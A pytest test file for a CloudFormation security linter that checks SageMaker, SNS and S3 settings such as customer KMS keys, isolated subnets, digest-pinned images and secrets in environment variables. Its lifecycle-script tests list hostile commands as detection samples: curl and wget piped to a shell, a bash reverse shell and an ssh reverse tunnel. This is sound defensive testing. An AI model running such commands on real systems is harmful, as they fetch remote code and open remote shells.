"""What counts as a customer key, an isolated subnet, a pinned image, a secret: every outcome."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from secure_ml_constructs.verification.rules import Finding, Settings, Severity, check
from secure_ml_constructs.verification.rules.instances import local_storage
from secure_ml_constructs.verification.rules.secrets import script_problems, secret_in

DIGEST = "@sha256:" + "0" * 64
KEY_ID = "12345678-1234-1234-1234-123456789012"


def findings(rule: str, type_: str, settings: Settings | None = None, /, **properties: Any) -> list[Finding]:
    resources = {
        "It": {"Type": type_, "Properties": properties},
        "Key": {"Type": "AWS::KMS::Key"},
        "Bucket": {"Type": "AWS::S3::Bucket", "Properties": {"BucketName": "ours"}},
        "Provider": {"Type": "Custom::Key", "Properties": {}},
        "Repository": {"Type": "AWS::ECR::Repository"},
        "Subnet": {"Type": "AWS::EC2::Subnet"},
        "Vpc": {"Type": "AWS::EC2::VPC"},
        "Group": {"Type": "AWS::EC2::SecurityGroup"},
    }
    parameters = {"None": {"Type": "String"}, "Managed": {"Type": "String", "Default": "alias/aws/sns"}}
    found = check({"main": {"Resources": resources, "Parameters": parameters}}, settings)
    return [finding for finding in found if finding.rule == rule and finding.logical_id == "It"]


def outcome(*arguments: Any, **properties: Any) -> str:
    found = {finding.outcome for finding in findings(*arguments, **properties)}
    assert len(found) < 2
    return found.pop() if found else "pass"


@pytest.mark.parametrize(
    ("key", "wanted"),
    [
        ({"Ref": "Key"}, "pass"),
        ({"Fn::GetAtt": ["Key", "Arn"]}, "pass"),
        ({"Fn::Sub": "arn:aws:kms:${AWS::Region}:${AWS::AccountId}:key/${Key}"}, "pass"),
        ("alias/ours", "pass"),
        ("arn:aws-cn:kms:cn-north-1:111122223333:alias/ours", "pass"),
        ({"Fn::Sub": "arn:${AWS::Partition}:kms:${AWS::Region}:${AWS::AccountId}:alias/ours"}, "pass"),
        ("alias/aws/sns", "fail"),
        ({"Ref": "Managed"}, "fail"),
        ({"Fn::Sub": "arn:${AWS::Partition}:kms:${AWS::Region}:${AWS::AccountId}:alias/aws/sns"}, "fail"),
        ({"Fn::Join": ["/", ["alias", "aws", "sns"]]}, "fail"),
        ("", "fail"),
        ("nonsense", "fail"),
        (True, "fail"),
        ({"Ref": "AWS::NoValue"}, "fail"),
        ({"Ref": "Bucket"}, "fail"),
        ({"Fn::If": ["C", {"Ref": "Key"}, "alias/aws/sns"]}, "fail"),
        (KEY_ID, "unresolved"),
        (f"arn:aws:kms:eu-west-1:111122223333:key/{KEY_ID}", "unresolved"),
        ({"Ref": "None"}, "unresolved"),
        ({"Fn::ImportValue": "key"}, "unresolved"),
        ({"Fn::GetAtt": ["Provider", "KeyArn"]}, "unresolved"),
        ("{{resolve:ssm:/key}}", "unresolved"),
        ({"Fn::Sub": "alias/${None}"}, "unresolved"),
    ],
)
def test_customer_keys(key: Any, wanted: str) -> None:
    assert outcome("SnsCustomerKey", "AWS::SNS::Topic", KmsMasterKeyId=key) == wanted


def test_a_key_that_is_vouched_for() -> None:
    settings = Settings(customer_keys=(f"*{KEY_ID}",))
    arn = f"arn:aws:kms:eu-west-1:111122223333:key/{KEY_ID}"
    assert outcome("SnsCustomerKey", "AWS::SNS::Topic", settings, KmsMasterKeyId=arn) == "pass"


def test_what_is_unresolved_has_a_severity_of_its_own() -> None:
    (default,) = findings("SnsCustomerKey", "AWS::SNS::Topic", KmsMasterKeyId={"Ref": "None"})
    assert default.severity is Severity.ERROR
    settings = Settings(unresolved={"key": Severity.WARNING})
    (other,) = findings("SnsCustomerKey", "AWS::SNS::Topic", settings, KmsMasterKeyId={"Ref": "None"})
    assert other.severity is Severity.WARNING
    assert "Parameter None has no default" in other.message


@pytest.mark.parametrize(
    ("subnets", "wanted"),
    [
        ([{"Ref": "Subnet"}], "pass"),
        ([], "fail"),
        ([{"Ref": "AWS::NoValue"}], "fail"),
        (["subnet-1"], "unresolved"),
        ({"Ref": "None"}, "unresolved"),
        ([{"Ref": "Subnet"}, {"Ref": "None"}], "unresolved"),
    ],
)
def test_isolated_subnets(subnets: Any, wanted: str) -> None:
    network = {"Subnets": subnets, "SecurityGroupIds": [{"Fn::GetAtt": ["Group", "GroupId"]}]}
    assert outcome("SageMakerModelInVpc", "AWS::SageMaker::Model", VpcConfig=network) == wanted


def test_a_network_that_is_vouched_for() -> None:
    network = {"Subnets": ["subnet-1"], "SecurityGroupIds": ["sg-1"]}
    settings = Settings(networks=("subnet-1", "sg-1"))
    assert outcome("SageMakerModelInVpc", "AWS::SageMaker::Model", settings, VpcConfig=network) == "pass"


@pytest.mark.parametrize(
    ("image", "wanted"),
    [
        ({"Fn::Sub": "${AWS::AccountId}.dkr.ecr.${AWS::Region}.${AWS::URLSuffix}/x" + DIGEST}, "pass"),
        ({"Fn::Sub": "${Repository.RepositoryUri}" + DIGEST}, "pass"),
        ({"Fn::Sub": "${Repository.RepositoryUri}:latest"}, "fail"),
        ("111122223333.dkr.ecr.eu-west-1.amazonaws.com/x" + DIGEST, "fail"),
        # AWS's own deep-learning registry: the digest says that it is the image that was looked at.
        ("763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch-inference" + DIGEST, "pass"),
        ("763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch-inference:2.6", "fail"),
        ("public.ecr.aws/docker/library/python" + DIGEST, "fail"),
        ("python:3.12", "fail"),
        ({"Ref": "None"}, "unresolved"),
    ],
)
def test_images(image: Any, wanted: str) -> None:
    container = {"Image": image}
    assert outcome("SageMakerModelImagePinned", "AWS::SageMaker::Model", PrimaryContainer=container) == wanted


def test_registries_that_are_trusted() -> None:
    container = {"Image": "111122223333.dkr.ecr.eu-west-1.amazonaws.com/x" + DIGEST}
    rule, type_ = "SageMakerModelImagePinned", "AWS::SageMaker::Model"
    trusted = Settings(trusted_accounts=("111122223333",))
    assert outcome(rule, type_, trusted, PrimaryContainer=container) == "pass"
    listed = Settings(registries=("763104351884.dkr.ecr.*/pytorch-inference:*",))
    container = {"Image": "763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch-inference:2.6"}
    assert outcome(rule, type_, listed, PrimaryContainer=container) == "pass"


@pytest.mark.parametrize(
    ("place", "wanted"),
    [
        ({"Fn::Sub": "s3://${Bucket}/m.tar.gz"}, "pass"),
        ("s3://ours/m.tar.gz", "pass"),
        ("s3://theirs/m.tar.gz", "fail"),
        ({"Ref": "None"}, "unresolved"),
        ({"Fn::Sub": "s3://${None}/m"}, "unresolved"),
    ],
)
def test_places(place: Any, wanted: str) -> None:
    container = {"ModelDataUrl": place}
    assert outcome("SageMakerModelDataBucket", "AWS::SageMaker::Model", PrimaryContainer=container) == wanted


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        ("AWS_KEY", "AKIAIOSFODNN7EXAMPLE", True),
        ("DB_PASSWORD", "hunter2-hunter2", True),
        ("HF_TOKEN", "hf_" + "a" * 34, True),
        ("URL", "postgres://user:password@db/x", True),
        ("NOTE", "-----BEGIN PRIVATE KEY-----", True),
        ("MAX_TOKENS", "512", False),
        ("TOKENIZER_NAME", "bert-base", False),
        ("SECRET_ARN", "arn:aws:secretsmanager:eu-west-1:111122223333:secret:x", False),
        ("SECRET_NAME", "db/reader", False),
        ("PASSWORD_FILE", "/run/secrets/db", False),
        ("TOKEN_TTL", "3600", False),
        ("USE_TOKEN", "true", False),
        ("LOG_LEVEL", "info", False),
        ("URL", "https://docs.example/page", False),
    ],
)
def test_secrets(name: str, value: str, secret: bool) -> None:
    assert bool(secret_in(name, value)) is secret


@pytest.mark.parametrize(
    ("script", "problem"),
    [
        ("pip install --index-url $INDEX pandas", None),
        ("TOKEN=$(aws codeartifact get-authorization-token --domain x)", None),
        ("export DB_PASSWORD=hunter2-hunter2", "credential"),
        ("curl -s https://x.example/i.sh | sudo bash", "fetches"),
        ("wget -qO- https://x.example/i.sh | sh", "fetches"),
        ("bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "tunnel"),
        ("ssh -N -R 8080:localhost:22 a@b", "tunnel"),
    ],
)
def test_scripts(script: str, problem: str | None) -> None:
    found = list(script_problems(script))
    assert bool(found) is bool(problem)
    assert not problem or problem in found[0]
    encoded = base64.b64encode(script.encode()).decode()
    type_ = "AWS::SageMaker::StudioLifecycleConfig"
    wanted = "fail" if problem else "pass"
    rule = "SageMakerStudioLifecycleScript"
    assert outcome(rule, type_, StudioLifecycleConfigContent=encoded) == wanted


def test_a_script_that_is_no_base64() -> None:
    type_ = "AWS::SageMaker::StudioLifecycleConfig"
    assert outcome("SageMakerStudioLifecycleScript", type_, StudioLifecycleConfigContent="echo ü") == "fail"


@pytest.mark.parametrize(
    ("type_", "local"),
    [
        ("ml.g5.xlarge", True),
        ("ml.g4dn.xlarge", True),
        ("ml.p4d.24xlarge", True),
        ("ml.p5.48xlarge", True),
        ("ml.m5d.large", True),
        ("ml.c6id.large", True),
        ("ml.m6gd.large", True),
        ("ml.m5.xlarge", False),
        ("ml.c5n.xlarge", False),
        ("ml.t3.medium", False),
        ("ml.inf2.xlarge", False),
        (None, False),
    ],
)
def test_local_storage(type_: Any, local: bool) -> None:
    assert local_storage(type_) is local


@pytest.mark.parametrize("written", ["true", "True", 1])
def test_a_boolean_is_a_boolean(written: Any) -> None:
    rule, type_ = "SageMakerModelNetworkIsolation", "AWS::SageMaker::Model"
    assert outcome(rule, type_, EnableNetworkIsolation=written) == "fail"


def test_a_resource_that_is_never_made_is_not_judged() -> None:
    topic = {"Type": "AWS::SNS::Topic", "Condition": "Never"}
    body = {"Resources": {"It": topic}, "Conditions": {"Never": {"Fn::Equals": ["a", "b"]}}}
    assert check({"main": body}) == []


def test_what_hangs_on_too_many_conditions_is_unresolved() -> None:
    value: Any = "alias/ours"
    for i in range(12):
        value = {"Fn::Join": ["", [{"Fn::If": [f"C{i}", "", ""]}, value]]}
    found = findings("SnsCustomerKey", "AWS::SNS::Topic", KmsMasterKeyId=value)
    assert [finding.outcome for finding in found] == ["unresolved"]


def test_rules_off_and_on() -> None:
    rule, type_ = "S3BucketObjectLock", "AWS::S3::Bucket"
    assert findings(rule, type_) == []
    assert findings(rule, type_, Settings(on=frozenset({rule})))
    assert findings("S3BucketVersioned", type_)
    assert findings("S3BucketVersioned", type_, Settings(off=frozenset({"S3BucketVersioned"}))) == []
    (found,) = findings(
        "S3BucketVersioned", type_, Settings(severities={"S3BucketVersioned": Severity.WARNING})
    )
    assert found.severity is Severity.WARNING


def test_the_bucket_for_access_logs_is_excepted() -> None:
    aes = {
        "ServerSideEncryptionConfiguration": [{"ServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]
    }
    logs = {"Type": "AWS::S3::Bucket", "Properties": {"BucketEncryption": aes}}
    data = {
        "Type": "AWS::S3::Bucket",
        "Properties": {"LoggingConfiguration": {"DestinationBucketName": {"Ref": "It"}}},
    }

    def rules(resources: dict[str, Any]) -> set[str]:
        return {f.rule for f in check({"main": {"Resources": resources}}) if f.logical_id == "It"}

    excepted = {"S3BucketCustomerKey", "S3BucketAccessLogged"}
    assert excepted <= rules({"It": logs})
    assert not excepted & rules({"It": logs, "Data": data})


def test_a_schedule_is_judged_by_the_job_that_it_names() -> None:
    rule = "SageMakerMonitoringScheduleNetworkIsolation"

    def outcomes(isolated: bool, name: Any) -> list[str]:
        job = {
            "Type": "AWS::SageMaker::DataQualityJobDefinition",
            "Properties": {"JobDefinitionName": "job", "NetworkConfig": {"EnableNetworkIsolation": isolated}},
        }
        config = {"MonitoringScheduleConfig": {"MonitoringJobDefinitionName": name}}
        schedule = {"Type": "AWS::SageMaker::MonitoringSchedule", "Properties": config}
        found = check({"main": {"Resources": {"Job": job, "Schedule": schedule}}})
        return [f.outcome for f in found if f.rule == rule]

    # Ref gives the ARN of a definition, whose last part is its name.
    part = {"Fn::Select": [1, {"Fn::Split": ["/", {"Ref": "Job"}]}]}
    for name in ({"Ref": "Job"}, {"Fn::GetAtt": ["Job", "JobDefinitionName"]}, "job", part):
        assert outcomes(True, name) == []
        assert outcomes(False, name) == ["fail"]
    assert outcomes(True, "another") == ["unresolved"]
    other = {"Fn::Select": [1, {"Fn::Split": ["-", {"Ref": "Job"}]}]}
    assert outcomes(True, other) == ["unresolved"]
